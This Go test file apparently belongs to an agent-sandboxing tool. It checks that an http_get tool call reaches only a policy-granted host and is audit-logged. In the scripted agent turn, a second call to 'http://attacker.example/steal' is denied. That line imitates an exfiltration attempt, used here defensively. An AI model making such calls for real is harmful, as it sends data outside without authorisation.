package workflows_test

import (
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/wardenhq/warden"
	"github.com/wardenhq/warden/internal/teststack"
	"github.com/wardenhq/warden/llm"
	"github.com/wardenhq/warden/worker"
)

// TestEgressIsGrantedByPolicyAndAudited: http_get reaches the one host the
// policy grants, through the egress proxy, and the connection is in the
// audit log; a host nobody granted is denied before anything connects.
func TestEgressIsGrantedByPolicyAndAudited(t *testing.T) {
	t.Parallel()
	site, host, policyDir := grantedSite(t, nil)

	h := newHarnessWith(t, worker.Config{PolicyDir: policyDir})
	require.NoError(t, h.deps.Scripted.Add(llm.Scenario{Name: "fetch", Turns: []llm.Turn{
		{ToolCalls: []llm.ScriptedCall{
			{Name: "http_get", Args: json.RawMessage(fmt.Sprintf(`{"url": "%s/hello"}`, site.URL))},
			{Name: "http_get", Args: json.RawMessage(`{"url": "http://attacker.example/steal"}`)},
		}},
		{Content: "Fetched:\n{{tool_results}}"},
	}}))
	res, err := h.run(request("fetch"))
	require.NoError(t, err)
	require.Equal(t, warden.StatusCompleted, res.Status)
	require.Equal(t, map[string]int{"executed": 1, "denied": 1}, res.ToolCalls)
	require.Contains(t, res.Answer, "hello from the granted host")

	var egress []warden.AuditEvent
	for _, e := range h.events() {
		if e.Type == warden.EventEgressConnection {
			egress = append(egress, e)
		}
	}
	require.Len(t, egress, 1, "one connection, to the granted host")
	require.Equal(t, warden.VerdictAllow, egress[0].Decision)
	require.Equal(t, "acme", egress[0].Tenant)
	require.Contains(t, egress[0].Message, "connected to "+host)
	require.Contains(t, egress[0].Message, "address "+host, "the audit names the address dialed")
	require.Contains(t, string(egress[0].Result), `"address":"`+host+`"`)
}

// grantedSite serves "hello from the granted host" and returns its URL,
// its host:port and a policy directory (the default bundle plus extra
// files) that grants egress to it.
func grantedSite(t *testing.T, extra map[string]string) (site *httptest.Server, host, policyDir string) {
	t.Helper()
	site = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "hello from the granted host")
	}))
	t.Cleanup(site.Close)
	host = strings.TrimPrefix(site.URL, "http://")
	grant, _ := json.Marshal(map[string]any{"allowed_hosts": []string{host}})
	files := map[string]string{"warden/network/data.json": string(grant)}
	maps.Copy(files, extra)
	return site, host, teststack.PolicyDir(t, files)
}
